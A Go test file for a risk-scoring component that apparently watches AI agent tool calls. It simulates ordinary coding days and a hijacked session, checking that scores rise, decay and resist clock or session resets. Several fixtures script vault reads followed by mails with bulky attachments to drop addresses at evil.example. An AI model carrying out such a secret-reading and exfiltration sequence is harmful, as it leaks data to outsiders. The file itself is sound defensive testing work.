package risk_test

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"rutile/internal/access"
	"rutile/internal/rawjson"
	"rutile/internal/risk"
)

// world is a book with clocks that a test sets.
type world struct {
	t      testing.TB
	book   *risk.Book
	wall   time.Time
	steady time.Duration
	n      int
}

var monday = time.Date(2026, 11, 2, 9, 0, 0, 0, time.UTC)

func newWorld(t testing.TB) *world {
	w := &world{t: t, wall: monday}
	w.open()
	return w
}

func (w *world) open() {
	w.t.Helper()
	var err error
	if w.book, err = risk.New(risk.Config{Now: func() time.Time { return w.wall }, Steady: func() time.Duration { return w.steady }}); err != nil {
		w.t.Fatal(err)
	}
}

// wait lets time go by on both clocks.
func (w *world) wait(d time.Duration) { w.wall, w.steady = w.wall.Add(d), w.steady+d }

// act is one call of a session, as a test describes it.
type act struct {
	agent, session, person, server, tool, class, args, instance, version string
	unattested, drift                                                    bool
	end                                                                  risk.End
}

func (a act) with(change ...func(*act)) act {
	for _, f := range change {
		f(&a)
	}
	return a
}

func (w *world) request(a act) *access.Request {
	w.t.Helper()
	w.n++
	or := func(s, other string) string {
		if s == "" {
			return other
		}
		return s
	}
	v, err := rawjson.Parse([]byte(or(a.args, `{"path":"docs/a.txt"}`)), rawjson.Limits{})
	if err != nil {
		w.t.Fatal(err)
	}
	r := &access.Request{ID: fmt.Sprint("dec_", w.n), At: w.wall, Kind: access.KindTool, Server: or(a.server, "files"), Target: or(a.tool, "read"), Arguments: v}
	r.Who = access.Identity{Session: or(a.session, "ses_1"), Actor: access.Actor{Agent: or(a.agent, "bot"), Attested: !a.unattested, Instance: a.instance, Version: a.version}}
	if a.person != "" {
		r.Who.Subject = access.Subject{Issuer: "https://idp.example", ID: a.person}
	}
	return r
}

// call makes one call and returns its scores as they were when it was decided.
func (w *world) call(a act) *access.Risk {
	w.t.Helper()
	r := w.request(a)
	class := a.class
	if class == "" {
		class = "read"
	}
	s := w.book.Arrive(r, []string{class}, a.drift)
	w.book.Ended(s, a.end)
	return s
}

// day is an ordinary day of a coding agent: bursts of reads, some writes and mails to
// the same few people, from nine to five.
func (w *world) day(r *rand.Rand, a act) (worst int) {
	w.t.Helper()
	begin := w.wall
	for hour := 9; hour < 17; hour++ {
		until := time.Date(begin.Year(), begin.Month(), begin.Day(), hour, r.IntN(20), 0, 0, time.UTC)
		if d := until.Sub(w.wall); d > 0 {
			w.wait(d)
		}
		for range 4 + r.IntN(8) {
			for range 2 + r.IntN(8) {
				x := a.with(func(x *act) { x.end.Bytes = 200 << r.IntN(7) })
				x.args = fmt.Sprintf(`{"path":"src/%s.go"}`, strings.Repeat("a", 1+r.IntN(60)))
				switch r.IntN(10) {
				case 0:
					x.tool, x.class = "write", "write"
					x.args = fmt.Sprintf(`{"path":"src/b.go","text":"%s"}`, strings.Repeat("word ", 10<<r.IntN(6)))
				case 1:
					x.server, x.tool = "git", "log"
					x.args = fmt.Sprintf(`{"n":%d}`, r.IntN(50))
				case 2:
					x.server, x.tool, x.class = "mail", "send", "egress"
					x.args = fmt.Sprintf(`{"to":"%s@example.com","body":"%s"}`, []string{"ann", "bob", "eve"}[r.IntN(3)], strings.Repeat("hello ", 5+r.IntN(60)))
				}
				worst = max(worst, w.call(x).Session)
				w.wait(time.Duration(1+r.IntN(20)) * time.Second)
			}
			w.wait(time.Duration(1+r.IntN(4)) * time.Minute)
		}
	}
	w.wait(time.Date(begin.Year(), begin.Month(), begin.Day()+1, 8, 50, 0, 0, time.UTC).Sub(w.wall))
	return worst
}

// learned is a world in which an agent has worked for some days.
func learned(t testing.TB, days int) *world {
	w := newWorld(t)
	r := rand.New(rand.NewPCG(1, 2))
	for d := range days {
		w.day(r, act{session: fmt.Sprint("ses_day", d)})
	}
	w.wait(2 * time.Hour)
	return w
}

// Of honest days none comes to the first rung, once it is known what is usual.
func TestAnHonestDayStaysLow(t *testing.T) {
	t.Parallel()
	for seed := range uint64(2) {
		w := newWorld(t)
		r := rand.New(rand.NewPCG(seed, 7))
		for d := range 15 {
			if worst := w.day(r, act{session: fmt.Sprint("ses_", d)}); worst >= 40 {
				t.Errorf("seed %d day %d comes to %d", seed, d, worst)
			}
		}
	}
}

// exfiltrate is a session of one that has been taken over: it looks around, reads what it
// never read and sends it where nothing ever went.
func exfiltrate(w *world, a act) (scores []int) {
	for i := range 12 {
		x := a.with()
		x.server, x.tool = "vault", fmt.Sprint("read", i)
		x.end.Denied = i%2 == 0
		x.args = fmt.Sprintf(`{"id":%d}`, 100+i)
		scores = append(scores, w.call(x).Session)
		w.wait(2 * time.Second)
	}
	for i := range 12 {
		x := a.with()
		x.server, x.tool, x.class = "mail", "send", "egress"
		x.args = fmt.Sprintf(`{"to":"drop%d@evil.example","body":"%s","attachment":"%s"}`, i, "x", strings.Repeat("aB3xY9kQ2mZ7", 4000))
		scores = append(scores, w.call(x).Session)
		w.wait(2 * time.Second)
	}
	return scores
}

// An attack climbs the rungs, and says why.
func TestAnAttackClimbsTheRungs(t *testing.T) {
	t.Parallel()
	w := learned(t, 4)
	scores := exfiltrate(w, act{session: "ses_bad"})
	if last := scores[len(scores)-1]; last < 90 {
		t.Fatalf("it comes to %d: %v", last, scores)
	}
	s := w.book.Of("bot", "ses_bad", "")
	if len(s.Top) != 3 || s.Model != risk.Model || s.Learned < 200 {
		t.Fatalf("%+v", s)
	}
	for i, p := range s.Top {
		if p.Points <= 0 || p.Signal == "" || p.Unit == "" || p.Observed == 0 || p.At.IsZero() || i > 0 && p.Points > s.Top[i-1].Points {
			t.Errorf("%+v", p)
		}
	}
	if s.Without >= s.Session || s.Without < 60 { // there are others
		t.Errorf("without the first reason it is %d of %d", s.Without, s.Session)
	}
}

// Of whom nothing is known yet nothing is asked on statistics alone, whatever is done.
func TestAColdStartIsNeverHeldOnStatistics(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for i := range 25 {
		w.call(act{})
		w.wait(time.Duration(i) * time.Second)
	}
	worst := 0
	for _, s := range exfiltrate(w, act{}) {
		worst = max(worst, s)
	}
	for range 500 {
		worst = max(worst, w.call(act{tool: fmt.Sprint("t", w.n), end: risk.End{Denied: true}}).Session)
	}
	if worst >= 60 {
		t.Errorf("it comes to %d", worst)
	}
}

// A score decays: by half in a quarter of an hour, an agent's by half in a day.
func TestScoresDecay(t *testing.T) {
	t.Parallel()
	w := learned(t, 4)
	exfiltrate(w, act{session: "ses_bad"})
	at := func() (int, int) { s := w.book.Of("bot", "ses_bad", ""); return s.Session, s.Agent }
	session, agent := at()
	w.wait(15 * time.Minute)
	s15, a15 := at()
	w.wait(2 * time.Hour)
	s2h, a2h := at()
	if s15 >= session || s2h > 10 || a15 > agent || a2h < a15*8/10 {
		t.Errorf("session %d, %d, %d; agent %d, %d, %d", session, s15, s2h, agent, a15, a2h)
	}
	w.wait(10 * 24 * time.Hour)
	if s, a := at(); s > 6 || a > 6 {
		t.Errorf("after ten days %d and %d", s, a)
	}
}

// Whoever sets the wall clock neither washes a score nor holds it.
func TestTheWallClockWashesNothing(t *testing.T) {
	t.Parallel()
	w := learned(t, 4)
	exfiltrate(w, act{session: "ses_bad"})
	was := w.book.Of("bot", "ses_bad", "")
	for _, step := range []time.Duration{48 * time.Hour, -96 * time.Hour, -10 * 365 * 24 * time.Hour} {
		w.wall = w.wall.Add(step)
		if is := w.book.Of("bot", "ses_bad", ""); is.Session != was.Session || is.Agent != was.Agent {
			t.Errorf("a step of %s makes %d of %d", step, is.Session, was.Session)
		}
		w.call(act{session: "ses_bad"})
	}
}

// Another session, or another instance, of the same agent begins where the last one is.
func TestAnotherSessionWashesNothing(t *testing.T) {
	t.Parallel()
	w := learned(t, 4)
	worst := 0
	for i := range 24 { // each step of the attack in a session of its own
		scores := exfiltrateStep(w, act{session: fmt.Sprint("ses_s", i), instance: fmt.Sprint("run", i)}, i)
		worst = max(worst, scores)
	}
	if worst < 75 {
		t.Errorf("an attack over many sessions comes to %d", worst)
	}
	for i := range 500 { // nor does opening many push it out
		w.call(act{session: fmt.Sprint("ses_x", i)})
	}
	if s := w.book.Of("bot", "ses_new", ""); s.Session < 60 {
		t.Errorf("after many sessions it is %d", s.Session)
	}
	if s := w.call(act{session: "ses_other", person: "ann"}); s.Session >= 60 {
		t.Errorf("another person's session begins with %d", s.Session)
	}
}

func exfiltrateStep(w *world, a act, i int) int {
	x := a.with()
	if i < 12 {
		x.server, x.tool, x.args, x.end.Denied = "vault", fmt.Sprint("read", i), fmt.Sprintf(`{"id":%d}`, i), i%2 == 0
	} else {
		x.server, x.tool, x.class = "mail", "send", "egress"
		x.args = fmt.Sprintf(`{"to":"drop%d@evil.example","body":"%s"}`, i, strings.Repeat("aB3xY9kQ2mZ7", 4000))
	}
	s := w.call(x).Session
	w.wait(5 * time.Second)
	return s
}

// Of hundreds of calls at once each that is scored after the one that crosses a bound is
// over it too: nobody slips through.
func TestNoScoreIsLowerThanOneBefore(t *testing.T) {
	t.Parallel()
	w := learned(t, 4)
	var reqs []*access.Request
	for i := range 400 {
		reqs = append(reqs, w.request(act{session: "ses_bad", server: "mail", tool: fmt.Sprint("send", i%50), args: fmt.Sprintf(`{"to":"d%d@evil.example","body":"%s"}`, i, strings.Repeat("aB3xY9kQ2mZ7", 4000))}))
	}
	var high atomic.Int64 // the highest that somebody has been told
	var wg sync.WaitGroup
	for _, r := range reqs {
		wg.Go(func() {
			before := high.Load()
			score := int64(w.book.Arrive(r, []string{"egress"}, false).Session)
			if score < before {
				t.Errorf("score %d comes after %d", score, before)
			}
			for old := high.Load(); old < score && !high.CompareAndSwap(old, score); old = high.Load() {
			}
		})
	}
	wg.Wait()
	if high.Load() < 75 {
		t.Errorf("it comes to %d", high.Load())
	}
}

// A call that is decided again is scored once.
func TestACallCountsOnce(t *testing.T) {
	t.Parallel()
	w := learned(t, 4)
	r := w.request(act{session: "ses_bad", server: "mail", tool: "send", args: `{"to":"x@evil.example"}`})
	first := w.book.Arrive(r, []string{"egress"}, false)
	for range 500 {
		r.Risk = w.book.Arrive(r, []string{"egress"}, false)
		first.Of = r.Risk.Of
		r.Risk = first
	}
	if s := w.book.Of("bot", "ses_bad", ""); s.Session != first.Session {
		t.Errorf("decided five hundred times it is %d, not %d", s.Session, first.Session)
	}
}
